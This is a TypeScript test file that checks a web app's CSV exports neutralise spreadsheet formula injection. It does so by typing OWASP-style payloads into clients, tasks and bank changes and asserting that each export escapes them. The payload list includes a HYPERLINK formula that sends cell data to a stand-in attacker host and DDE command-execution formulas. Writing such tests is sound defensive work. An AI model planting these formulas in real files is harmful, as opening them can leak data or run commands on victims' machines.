import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toExcelCsv, toExcelCsvCell } from '../../shared/csv-export.ts';
import type { ClientRow } from '../../shared/clients.ts';
import type { Software } from '../../shared/software.ts';
import type { UserOption } from '../../shared/users.ts';
import { buildLookups } from '../../web/features/clients/lib/client-lookups.ts';
import type { AuthorizationRow } from '../../shared/authorizations.ts';
import type { BankChangeRow } from '../../shared/bank-changes.ts';
import type { TrackingRow } from '../../shared/tracking.ts';
import { buildAuthorizationsCsv } from '../../web/features/authorizations/lib/export-rows.ts';
import { buildBankChangesCsv } from '../../web/features/bank-changes/lib/export-rows.ts';
import { buildClientsCsv } from '../../web/features/clients/lib/export-rows.ts';
import { buildTrackingCsv } from '../../web/features/tracking/lib/export-rows.ts';
import { createTestApp, type TestApp } from '../testing/test-app.ts';
import { readOpenApi, send, signInEveryRole, type Operation, type RoleClients } from './api-surface.ts';

// OWASP's CSV injection list: a cell starting with one of these runs as a formula in Excel,
// LibreOffice or Sheets.
const FORMULA_START = /^[=+\-@\t\r]/;
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1;=2+2',
];

/** The cells of a CSV as a spreadsheet would read them. */
function cells(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n' });
  // The file ends with a line break: the empty 'line' after it is no row.
  const rows = parsed.data.at(-1)?.join('') === '' ? parsed.data.slice(0, -1) : parsed.data;
  return rows.flat();
}

/** A cell a spreadsheet would evaluate: a formula start, unless it is the tab that keeps a long number as text. */
const dangerous = (cell: string) => FORMULA_START.test(cell) && !/^\t\d+$/.test(cell);

/** Exports whose default view would not hold the formulas typed below: the Tâches export shows « Mes tâches » unless asked for the Cabinet. */
const QUERY_BY_PATH: Record<string, string> = { '/api/tasks/export.csv': '?scope=all' };

let t: TestApp;
let roles: RoleClients;
let exports: Operation[];
beforeAll(async () => {
  t = await createTestApp();
  roles = await signInEveryRole(t);
  exports = (await readOpenApi(t)).filter((op) => op.method === 'GET' && op.answerTypes.some((type) => type.includes('csv')));
  // Formulas wherever a user can type text that ends up in an export.
  for (const formula of FORMULAS) {
    const created = await roles.collaborateur.post('/api/clients', { raisonSociale: formula, ville: formula, adresse: formula, numeroClient: formula.slice(0, 50) });
    expect(created.status, created.text).toBe(201);
    const id = (created.json as { id: string }).id;
    expect((await roles.collaborateur.request('PATCH', `/api/clients/${id}`, { adresse: `${formula} bis` })).status).toBe(200);
    await roles.collaborateur.post('/api/tasks', { title: formula, type: 'ponctuelle', priority: 'normale', status: 'a_faire', clientId: id });
    const change = await roles.collaborateur.post('/api/bank-changes', { clientId: id, newBankName: formula });
    expect(change.status, change.text).toBe(201);
  }
  await roles.collaborateur.request('PATCH', '/api/profile', { fullName: '=1+1 Collaborateur' });
});
afterAll(() => t.close());

describe('CSV exports', () => {
  it('are found in the OpenAPI document (every GET answering text/csv)', () => {
    expect(exports.map((op) => op.path)).toEqual(expect.arrayContaining(['/api/activity/export.csv', '/api/tasks/export.csv']));
  });

  it('neutralise every formula-looking cell in every server export', async () => {
    for (const op of exports) {
      const answer = await send(t, 'GET', `${op.path}${QUERY_BY_PATH[op.path] ?? ''}`, { cookie: roles.cookies.admin });
      expect(answer.status, op.path).toBe(200);
      expect(answer.headers.get('content-type'), op.path).toMatch(/^text\/csv/);
      expect(answer.headers.get('content-disposition'), op.path).toMatch(/^attachment/);
      const all = cells(answer.text);
      expect(all.filter(dangerous), op.path).toEqual([]);
      // Not vacuous: the formulas typed above are in the file, behind their apostrophe.
      expect(all.some((cell) => cell.startsWith("'=HYPERLINK(")), op.path).toBe(true);
    }
  });

  it('neutralise every formula-looking cell in the Clients export built by the browser', async () => {
    const rows = ((await roles.collaborateur.get('/api/clients')).json as { clients: ClientRow[] }).clients;
    const people = ((await roles.collaborateur.get('/api/users')).json as { users: UserOption[] }).users;
    const software = ((await roles.collaborateur.get('/api/software')).json as { software: Software[] }).software;
    const all = cells(buildClientsCsv(rows, buildLookups(people, software)));
    expect(all.filter(dangerous)).toEqual([]);
    // Names are trimmed when saved, so '\t=1+1' is stored as '=1+1'.
    for (const formula of FORMULAS) expect(all).toContain(`'${formula.trim()}`);
  });

  it('neutralise every formula-looking cell in the Habilitations, Banque and Suivi exports built by the browser', async () => {
    const get = async <T,>(path: string) => (await roles.collaborateur.get(path)).json as T;
    const { rows: authorizations } = await get<{ rows: AuthorizationRow[] }>('/api/authorizations/impots');
    const { years, rows: tracking } = await get<{ years: number[]; rows: TrackingRow[] }>('/api/tracking/cfe');
    const { changes } = await get<{ changes: BankChangeRow[] }>('/api/bank-changes');
    for (const csv of [buildAuthorizationsCsv(authorizations), buildTrackingCsv(tracking, 'CFE', years), buildBankChangesCsv(changes)]) {
      const all = cells(csv);
      expect(all.filter(dangerous)).toEqual([]);
      expect(all).toContain(`'${FORMULAS[0]}`);
    }
  });

  it('neutralise, for text of every shape, and keep the text readable behind one apostrophe', () => {
    const text = fc.oneof(
      fc.string({ maxLength: 30 }),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '\n=', '"='), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (row) => {
        const parsed = cells(toExcelCsv(row.map((_, i) => `Colonne ${i}`), [row])).slice(row.length);
        expect(parsed.filter(dangerous)).toEqual([]);
        expect(parsed.length).toBe(row.length);
        parsed.forEach((cell, i) => {
          const original = row[i] ?? '';
          const back = cell.startsWith("'") && FORMULA_START.test(original) ? cell.slice(1) : cell.replace(/^\t(?=\d+$)/, '');
          expect(back).toBe(original);
        });
      }),
      { seed: 20_261_121, numRuns: 300 },
    );
    expect(toExcelCsvCell('=1+1')).toBe("'=1+1");
  });
});
